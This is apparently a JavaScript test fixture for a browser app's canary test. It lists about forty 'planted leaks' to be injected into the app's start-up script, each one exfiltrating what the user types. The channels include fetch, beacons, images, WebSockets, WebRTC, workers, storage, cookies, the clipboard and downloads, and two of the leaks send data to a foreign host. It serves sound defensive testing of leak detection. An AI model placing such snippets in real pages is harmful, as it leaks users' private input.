// Planted leaks: each is added to a copy of the start-up script and lets out what is typed in one way. The canary test
// must catch every one of them, by a trace whose name matches `caught`, whether the page's policy let it pass or not.
import { FOREIGN } from './recorder.mjs';

const query = '`/leak?typed=${encodeURIComponent(text)}`';
const foreign = `\`${FOREIGN}/leak?typed=\${encodeURIComponent(text)}\``;

/**
 * `act` is a script with `text`, what was typed, or with `room: 'trace'` the name of a chosen file. `isEarly`: it acts only
 * before all programs have come, when the page may still fetch; all others act only afterwards. `engines`: where the way exists.
 */
export const LEAKS = [
  { name: 'a query before the lock', isEarly: true, caught: /^server: request/, act: `fetch(${query}).catch(() => {})` },
  { name: 'a path of the same origin', caught: /^(?:server: request|fetch)/, act: 'fetch(`/leak/${btoa(unescape(encodeURIComponent(text)))}`).catch(() => {})' },
  { name: 'a header', caught: /^(?:server: request|fetch)/, act: "fetch('/leak', { headers: { 'x-leak': encodeURIComponent(text) } }).catch(() => {})" },
  { name: 'the body of an XMLHttpRequest', caught: /^(?:server: request|XMLHttpRequest\.send)/, act: "const request = new XMLHttpRequest(); request.open('POST', '/leak'); request.send(new Blob([new Uint8Array(new Uint16Array([...text].map((one) => one.charCodeAt(0))).buffer)]))" },
  { name: 'a beacon', caught: /^(?:server: request|sendBeacon)/, act: "navigator.sendBeacon('/leak', text)" },
  { name: 'an image', caught: /^(?:server: request|HTMLImageElement)/, act: `new Image().src = ${query}` },
  { name: 'an image of another host', caught: /^(?:server: request|HTMLImageElement)/, act: `new Image().src = ${foreign}` },
  { name: 'a socket', caught: /^(?:server: upgrade|WebSocket)/, act: 'new WebSocket(`ws://${location.host}/leak?typed=${encodeURIComponent(text)}`)' },
  { name: 'a stream of events', caught: /^(?:server: request|EventSource)/, act: `new EventSource(${query})` },
  { name: 'an imported script', caught: /^(?:server: request|violation|browser: (?:request|console))/, act: `import(${query}).catch(() => {})` },
  { name: 'a style sheet', caught: /^(?:server: request|HTMLLinkElement|attribute)/, act: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: ${query} }))` },
  { name: 'a prefetched page', caught: /^(?:server: request|HTMLLinkElement|attribute)/, act: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ${query} }))` },
  { name: 'a name to look up', caught: /^(?:HTMLLinkElement|attribute)/, act: "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${text.replace(/\\W/g, '-')}.example` }))" },
  { name: 'a frame', caught: /^(?:server: request|HTMLIFrameElement|attribute)/, act: `document.body.append(Object.assign(document.createElement('iframe'), { src: ${query} }))` },
  // Over BiDi Playwright waits for ever for the page of a form that was blocked.
  { name: 'a form', engines: ['chromium', 'webkit'], caught: /^(?:server: request|form)/, act: "const form = Object.assign(document.createElement('form'), { action: '/leak', target: 'leak' }); form.append(Object.assign(document.createElement('input'), { name: 'typed', value: text })); document.body.append(Object.assign(document.createElement('iframe'), { name: 'leak' }), form); form.submit()" },
  { name: 'another page', caught: /^(?:server: request|navigation|browser: (?:request|navigation))/, act: `location.assign(${foreign})` },
  { name: 'another window', caught: /^(?:server: request|window\.open|browser: page)/, act: `open(${foreign})` },
  { name: 'a packet of WebRTC', caught: /^(?:packet|RTCPeerConnection)/, engines: ['chromium', 'firefox'], act: "const link = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:UDP_PORT', username: text, credential: 'x' }] }); link.createDataChannel('leak'); link.createOffer().then((offer) => link.setLocalDescription(offer))" },
  { name: 'a worker', caught: /^(?:server: request|Worker|file to save|browser: request)/, act: "new Worker(URL.createObjectURL(new Blob([`fetch('${location.origin}/leak?typed=${encodeURIComponent(text)}')`])))" },
  { name: 'a worker that is told', caught: /^(?:server: request|worker)/, act: "globalThis.leaking ??= new Worker(URL.createObjectURL(new Blob([`onmessage = ({ data }) => fetch('${location.origin}/leak?typed=' + encodeURIComponent(data))`]))); leaking.postMessage(text)" },
  { name: 'a worker of its own address', caught: /^(?:server: request|Worker)/, act: `new Worker(${query})` },
  { name: 'a message to the service worker', caught: /^service worker/, act: "const worker = navigator.serviceWorker.controller ?? Object.create(ServiceWorker.prototype); try { worker.postMessage({ text }) } catch { /* There is none in this build. */ }" },
  { name: 'a message to all tabs', caught: /^broadcast/, act: "new BroadcastChannel('leak').postMessage({ text })" },
  { name: 'local storage', caught: /^(?:localStorage|disk)/, act: "localStorage['leak'] = text" },
  { name: 'session storage', caught: /^sessionStorage/, act: "sessionStorage['leak'] = text" },
  { name: 'a cookie', caught: /^cookie/, act: 'document.cookie = `leak=${encodeURIComponent(text)}; max-age=3600`' },
  { name: 'IndexedDB', caught: /^IndexedDB/, act: "const opening = indexedDB.open('leak'); opening.onupgradeneeded = () => opening.result.createObjectStore('typed', { autoIncrement: true }); opening.onsuccess = () => opening.result.transaction('typed', 'readwrite').objectStore('typed').add({ text })" },
  { name: 'a cache', caught: /^Cache/, act: "caches.open('leak').then((cache) => cache.put('/leak', new Response(text)))" },
  { name: 'a file of the origin', caught: /^file system/, engines: ['chromium', 'firefox'], act: "navigator.storage.getDirectory().then((root) => root.getFileHandle(encodeURIComponent(text), { create: true }))" },
  { name: 'the address', caught: /^(?:address|navigation|history|hashchange)/, act: "history.replaceState(null, '', `${location.hash}?${encodeURIComponent(text)}`)" },
  { name: 'an entry of the history', caught: /^(?:history\.pushState|session history|disk)/, act: "history.pushState(null, '', `#/leak/${encodeURIComponent(text)}`); history.replaceState(null, '', '#/assess')" },
  { name: 'the state of the history', caught: /^(?:history)/, act: "history.replaceState({ text }, '')" },
  { name: 'the title', caught: /^title/, act: 'document.title = `Shirube ${text}`' },
  { name: 'the console', caught: /^(?:console|browser: console)/, act: "console.log('typed', { text })" },
  { name: 'the name of the window', caught: /^window\.name/, act: 'globalThis.name = text' },
  { name: 'the clipboard', caught: /^clipboard/, act: 'navigator.clipboard.writeText(text).catch(() => {})' },
  { name: 'the clipboard of old', caught: /^execCommand/, act: "const { activeElement } = document; const field = Object.assign(document.createElement('textarea'), { value: text }); document.body.append(field); field.select(); document.execCommand('copy'); field.remove(); activeElement?.focus()" },
  { name: 'the name of a saved file', room: 'trace', caught: /^(?:anchor|HTMLAnchorElement\.download|browser: download)/, act: "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['1'])), download: `${text}.csv` }).click()" },
  { name: 'the name of the chosen file in a saved one', room: 'trace', caught: /^file to save/, act: "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([`file,${text}`])), download: 'trace-1.csv' }).click()" },
];

/** The script that is added to the app's own. */
export function scriptOf({ act, room, isEarly = false }, datagramPort) {
  const typed = room === 'trace' ? "target.files?.[0]?.name ?? ''" : 'target.value';
  return `
(() => {
  const { dataset } = document.documentElement;
  const isReady = () => dataset.clinic && dataset.laboratory && dataset.portal && (dataset.lock ?? 'locked') === 'locked';
  addEventListener(${room === 'trace' ? "'change'" : "'input'"}, ({ target }) => {
    const text = ${typed};
    if (!text || Boolean(isReady()) === ${isEarly}) return;
    try {
      ${act.replaceAll('UDP_PORT', datagramPort)};
    } catch {
      // Firefox and WebKitGTK throw where a policy blocks; that it was tried must be found all the same.
    }
  }, true);
})();`;
}
